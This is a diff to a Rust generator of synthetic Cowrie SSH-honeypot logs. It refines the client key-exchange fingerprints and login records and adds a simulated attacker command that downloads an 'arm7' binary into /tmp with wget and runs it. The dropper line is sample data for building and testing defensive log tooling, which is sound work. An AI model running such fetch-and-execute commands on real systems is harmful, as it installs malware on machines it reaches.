@@ -78,12 +78,27 @@ const AGENTS: &[&str] = &[
     "curl/8.5.0",
     "Mozilla/5.0 zgrab/0.x",
 ];
-const KEX: &str = "\"hasshAlgorithms\":\"curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,\
-ecdh-sha2-nistp521,diffie-hellman-group14-sha256;aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com;\
-hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha2-256;none\",\"kexAlgs\":[\"curve25519-sha256\",\
-\"curve25519-sha256@libssh.org\",\"ecdh-sha2-nistp256\",\"ecdh-sha2-nistp384\",\"ecdh-sha2-nistp521\"],\"keyAlgs\":[\"ssh-ed25519\",\
-\"rsa-sha2-512\",\"rsa-sha2-256\",\"ecdsa-sha2-nistp256\"],\"encCS\":[\"aes128-ctr\",\"aes192-ctr\",\"aes256-ctr\"],\
-\"macCS\":[\"hmac-sha2-256\",\"hmac-sha2-512\"],\"compCS\":[\"none\"],\"langCS\":[\"\"]";
+const KEX: &[&str] = &[
+    "curve25519-sha256",
+    "curve25519-sha256@libssh.org",
+    "ecdh-sha2-nistp256",
+    "ecdh-sha2-nistp384",
+    "ecdh-sha2-nistp521",
+    "diffie-hellman-group-exchange-sha256",
+    "diffie-hellman-group14-sha256",
+    "diffie-hellman-group14-sha1",
+];
+const CIPHERS: &[&str] = &[
+    "aes128-ctr",
+    "aes192-ctr",
+    "aes256-ctr",
+    "aes128-gcm@openssh.com",
+    "aes256-gcm@openssh.com",
+    "aes128-cbc",
+];
+const MACS: &[&str] =
+    &["hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha2-256", "hmac-sha1"];
+const KEYS: &[&str] = &["ssh-ed25519", "rsa-sha2-512", "rsa-sha2-256", "ecdsa-sha2-nistp256", "ssh-rsa"];
 
 struct Maker {
     rng: ChaCha8Rng,
@@ -112,14 +127,22 @@ impl Maker {
             }
             560..677 => {
                 let hassh = self.frequent(300);
-                let text = format!("\"hassh\":\"{:032x}\",{KEX}", u128::from(hassh) << 70 | 0x5bd6_8ba4);
+                let text = key_exchange(hassh);
                 self.cowrie("client.kex", "SSH client hassh fingerprint", &text)
             }
             677..760 => self.http(),
             760..826 => {
                 let n = usize::try_from(self.frequent(COMMANDS.len() as u64)).unwrap_or(0);
                 let command = COMMANDS.get(n).copied().unwrap_or("id");
-                let text = format!("\"input\":\"{command}\"");
+                let text = match self.number % 3 {
+                    0 => format!("\"input\":\"{command}\""),
+                    _ => format!(
+                        "\"input\":\"cd /tmp; wget http://{}/{:x}/arm7; ./arm7 x{:x}\"",
+                        ip(self.source()),
+                        self.frequent(2_000),
+                        self.frequent(5_000)
+                    ),
+                };
                 self.cowrie("command.input", "CMD", &text)
             }
             826..855 => {
@@ -151,9 +174,9 @@ impl Maker {
         let user = usize::try_from(self.frequent(USERS.len() as u64)).unwrap_or(0);
         let password = self.frequent(120_000);
         let text = format!(
-            "\"username\":\"{}\",\"password\":\"p{password:x}w{}\"",
+            "\"username\":\"{}\",\"password\":\"{:x}\"",
             USERS.get(user).copied().unwrap_or("root"),
-            password % 997
+            password.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 30
         );
         self.cowrie(&format!("login.{end}"), "login attempt", &text)
     }
@@ -234,6 +257,31 @@ impl Maker {
         let exponent: f64 = self.rng.random();
         ((count as f64).powf(exponent) as u64).saturating_sub(1).min(count.saturating_sub(1))
     }
+}
+
+/// What a client of this kind offers: its lists in its own order, as Cowrie writes them.
+fn key_exchange(client: u64) -> String {
+    let kind = client.wrapping_mul(0x9E37_79B9_7F4A_7C15);
+    let turned = |list: &[&str], shift: u32| {
+        let mut list: Vec<String> = list.iter().map(|name| (*name).to_owned()).collect();
+        let by = usize::try_from(kind >> shift & 7).unwrap_or(0) % list.len().max(1);
+        list.rotate_left(by);
+        list
+    };
+    let (kex, ciphers, macs, keys) =
+        (turned(KEX, 8), turned(CIPHERS, 16), turned(MACS, 24), turned(KEYS, 32));
+    let quoted = |list: &[String]| format!("[\"{}\"]", list.join("\",\""));
+    format!(
+        "\"hassh\":\"{kind:016x}{:016x}\",\"hasshAlgorithms\":\"{};{};{};none,zlib@openssh.com\",\"kexAlgs\":{},\"keyAlgs\":{},\"encCS\":{},\"macCS\":{},\"compCS\":[\"none\",\"zlib@openssh.com\"],\"langCS\":[\"\"]",
+        kind.rotate_left(29),
+        kex.join(","),
+        ciphers.join(","),
+        macs.join(","),
+        quoted(&kex),
+        quoted(&keys),
+        quoted(&ciphers),
+        quoted(&macs),
+    )
 }
 
 fn ip(bits: u32) -> std::net::Ipv4Addr {
